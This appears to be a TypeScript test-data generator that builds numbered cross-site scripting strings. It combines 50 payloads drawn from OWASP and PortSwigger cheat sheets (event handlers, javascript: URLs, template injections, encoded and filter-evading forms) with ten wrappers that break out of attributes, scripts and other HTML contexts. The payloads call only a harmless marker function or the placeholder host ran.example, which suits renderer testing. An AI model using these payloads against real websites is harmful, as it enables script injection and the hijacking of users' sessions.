/**
 * Texts that browsers have taken for script: elements, attributes, addresses, styles, templates, and ways out of the places where a text may stand.
 * Each has a number that is found again on the screen. One that runs calls `ran`; one that becomes markup leaves an element with `data-ran`, or
 * asks `ran.example` for something. Source of the kinds: OWASP, XSS Filter Evasion Cheat Sheet; PortSwigger, XSS cheat sheet.
 */
const payloads: readonly string[] = [
  '<script>ran(N)</script>',
  '<script src=//ran.example/N></script>',
  '<img data-ran src=x onerror=ran(N)>',
  '<img data-ran src=//ran.example/N>',
  '<svg data-ran onload=ran(N)>',
  '<svg data-ran><script>ran(N)</script></svg>',
  '<svg data-ran><animate onbegin=ran(N) attributeName=x dur=1s>',
  '<math data-ran><mtext><style><img src=x onerror=ran(N)></style>',
  '<iframe data-ran srcdoc="<script>parent.ran(N)</script>"></iframe>',
  '<iframe data-ran src=javascript:parent.ran(N)>',
  '<object data-ran data=//ran.example/N>',
  '<embed data-ran src=//ran.example/N>',
  '<body data-ran onload=ran(N)>',
  '<details data-ran open ontoggle=ran(N)>',
  '<input data-ran autofocus onfocus=ran(N)>',
  '<video data-ran><source onerror=ran(N)></video>',
  '<audio data-ran src=x onerror=ran(N)>',
  '<link data-ran rel=stylesheet href=//ran.example/N>',
  '<base data-ran href=//ran.example/N>',
  '<meta data-ran http-equiv=refresh content="0;//ran.example/N">',
  '<form data-ran action=javascript:ran(N)><button>x',
  '<a data-ran href=javascript:ran(N)>x</a>',
  '<a data-ran href="jav&#x09;ascript:ran(N)">x</a>',
  '<style data-ran>@import "//ran.example/N";</style>',
  '<b data-ran style="background:url(//ran.example/N)">x</b>',
  '<template data-ran><img src=x onerror=ran(N)></template>',
  '<marquee data-ran onstart=ran(N)>x</marquee>',
  '<noscript><p title="</noscript><img data-ran src=x onerror=ran(N)>">',
  '<xmp><img data-ran src=x onerror=ran(N)></xmp>',
  '<custom-el data-ran onpointerenter=ran(N)>',
  'javascript:ran(N)',
  'data:text/html,<script>ran(N)</script>',
  'vbscript:ran(N)',
  '{{constructor.constructor("ran(N)")()}}',
  '\x24{ran(N)}',
  '<%= ran(N) %>',
  '#{ran(N)}',
  '[[\x24{ran(N)}]]',
  '{% raw %}<img data-ran src=x onerror=ran(N)>{% endraw %}',
  '&lt;img data-ran src=x onerror=ran(N)&gt;',
  '&#60;img data-ran src=x onerror=ran(N)&#62;',
  '%3Cimg%20data-ran%20src=x%20onerror=ran(N)%3E',
  '\\u003cimg data-ran src=x onerror=ran(N)\\u003e',
  '\\x3cscript\\x3eran(N)\\x3c/script\\x3e',
  '＜img data-ran src=x onerror=ran(N)＞',
  '<<script>ran(N)//<</script>',
  '<scr<script>ipt>ran(N)</scr</script>ipt>',
  '<ScRiPt>ran(N)</ScRiPt>',
  '<img\tdata-ran\tsrc=x\tonerror=ran(N)>',
  '<img/data-ran/src=x/onerror=ran(N)>',
]

/** What the payload stands in: plain, or behind the end of an attribute, a script, a comment, a title, an area of text. */
const places: readonly ((payload: string) => string)[] = [
  payload => payload,
  payload => `">${payload}`,
  payload => `'>${payload}`,
  payload => `\`-${payload}`,
  payload => `</script>${payload}`,
  payload => `--></title>${payload}`,
  payload => `</textarea>${payload}`,
  payload => `]]>${payload}`,
  payload => `" onmouseover=ran(N) x="${payload}`,
  payload => `';ran(N);//${payload}`,
]

/** By which a text is found on a screen. */
export const markOf = (number: number): string => `X${String(number).padStart(4, '0')}X`

/** `count` texts; beyond 500 they repeat under other numbers. */
export const xssTexts = (count: number): string[] =>
  Array.from({ length: count }, (_, number) => {
    const payload = payloads[number % payloads.length] ?? ''
    const place = places[Math.floor(number / payloads.length) % places.length]
    return `${markOf(number)} ${place?.(payload) ?? payload}`.replaceAll(/\bN\b/g, String(number))
  })
